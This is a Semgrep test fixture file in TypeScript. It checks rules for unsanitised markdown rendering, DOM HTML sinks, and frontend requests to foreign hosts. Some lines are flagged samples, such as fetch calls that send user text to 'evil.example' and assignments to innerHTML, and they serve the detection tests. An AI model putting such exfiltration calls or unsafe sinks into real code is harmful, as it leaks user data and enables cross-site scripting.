// Fixtures for `semgrep --test`: the line under each "ruleid" annotation must be flagged, the
// line under each "ok" annotation must not.
import { sanitize } from './sanitize';

declare const marked: { parse(s: string): string };
declare const el: HTMLElement;
declare const text: string;

export function renderMarkdown(source: string): string {
  if (!source) {
    // ruleid: confide-render-markdown-sanitizes
    return source;
  }
  // ok: confide-render-markdown-sanitizes
  return sanitize(marked.parse(source));
}

export function other(source: string): string {
  // ok: confide-render-markdown-sanitizes
  return source;
}

// ruleid: confide-dom-html-sink
el.innerHTML = text;
// ruleid: confide-dom-html-sink
el.outerHTML = text;
// ruleid: confide-dom-html-sink
el.insertAdjacentHTML('beforeend', text);
// ruleid: confide-dom-html-sink
document.write(text);
// ok: confide-dom-html-sink
el.textContent = text;

export async function requests(): Promise<void> {
  // ok: confide-frontend-foreign-request
  await fetch('/api/chats', { method: 'GET' });
  // ok: confide-frontend-foreign-request
  await fetch(`/api/chats/${text}`);
  // ruleid: confide-frontend-foreign-request
  await fetch('https://evil.example/collect?q=' + text);
  // ruleid: confide-frontend-foreign-request
  await fetch(`https://evil.example/${text}`);
  // ruleid: confide-frontend-foreign-request
  await fetch('//evil.example/x');
  // ok: confide-frontend-foreign-request
  const events = new EventSource('/api/chats/1/messages/2/stream');
  // ruleid: confide-frontend-foreign-request
  const foreign = new EventSource('http://127.0.0.1:9/stream');
  // ruleid: confide-frontend-foreign-request
  const socket = new WebSocket('wss://example.org');
  // ruleid: confide-frontend-foreign-request
  navigator.sendBeacon('/api/x', text);
  events.close();
  foreign.close();
  socket.close();
}

// ok: confide-frontend-foreign-request
export const here = new URL('/api/chats', window.location.href);
// ruleid: confide-frontend-foreign-request
export const there = new URL('https://evil.example/');
